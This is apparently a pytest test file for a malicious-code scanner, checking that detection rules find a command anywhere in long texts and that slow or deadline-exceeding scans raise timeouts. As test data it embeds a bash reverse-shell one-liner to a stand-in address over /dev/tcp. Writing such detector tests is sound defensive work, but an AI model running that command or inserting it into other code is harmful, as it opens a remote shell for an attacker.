"""Long and hostile texts: scanned in windows, ended by the deadline, never passed over."""

from __future__ import annotations

import pytest

from scangate.detectors.contract import CompiledDetector, Subject
from scangate.detectors.malicious_code.rulebook import OVERLAP, WINDOW, RuleBook, RuleModel, load_rules
from scangate.domain.content import Part
from scangate.domain.taxonomy import PartKind, Side
from scangate.errors import DeadlineExceededError
from scangate.matching.prepare import prepare

BOOK = load_rules()
SHELL = b"\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"


@pytest.mark.parametrize("at", [0, WINDOW - 20, WINDOW, 2 * WINDOW - OVERLAP - 17, 3 * WINDOW])
def test_a_command_is_found_wherever_it_stands_in_a_long_text(at: int) -> None:
    text = b"word " * (WINDOW // 5 * 4)
    text = text[:at] + SHELL + text[at:]
    (hit,) = [hit for hit in BOOK.hits(text) if hit.rule.id == "reverse_shell.dev_tcp"]
    assert text[hit.span.start : hit.span.end].startswith((b"bash", b"/dev/tcp"))


def test_the_deadline_is_asked_for_between_windows() -> None:
    asked = 0

    def checkpoint() -> None:
        nonlocal asked
        asked += 1
        if asked == 3:
            raise DeadlineExceededError("over")

    with pytest.raises(DeadlineExceededError):
        BOOK.hits(b"word " * (WINDOW * 2), checkpoint)
    assert asked == 3


def test_a_window_that_takes_too_long_is_a_timeout_and_not_clean() -> None:
    slow = {
        "id": "a.slow", "title": "t", "severity": "low", "confidence": "low", "reference": "https://example.org",
        "strings": r"$a = /((l|I|1|i){8,}|[O0]{8,}|_0x[0-9a-f]{4,6})[\s\S]{0,40}=/", "condition": "$a",
        "matches": ["x", "xx"], "benign": ["y", "z"],
    }  # fmt: skip
    book = RuleBook([RuleModel.model_validate(slow)])
    assert book.hits(b"1111 = ") == []
    with pytest.raises(DeadlineExceededError):
        book.hits(b"1" * WINDOW)


def test_repeated_openings_end_with_the_deadline(code_detector: CompiledDetector) -> None:
    text = "eval(" * 400_000
    calls = 0

    def checkpoint() -> None:
        nonlocal calls
        calls += 1
        if calls > 12:
            raise DeadlineExceededError("over")

    subject = Subject(Part(Side.RESPONSE, PartKind.TEXT, text), prepare(text), checkpoint=checkpoint)
    with pytest.raises(DeadlineExceededError):
        code_detector.detect(subject)
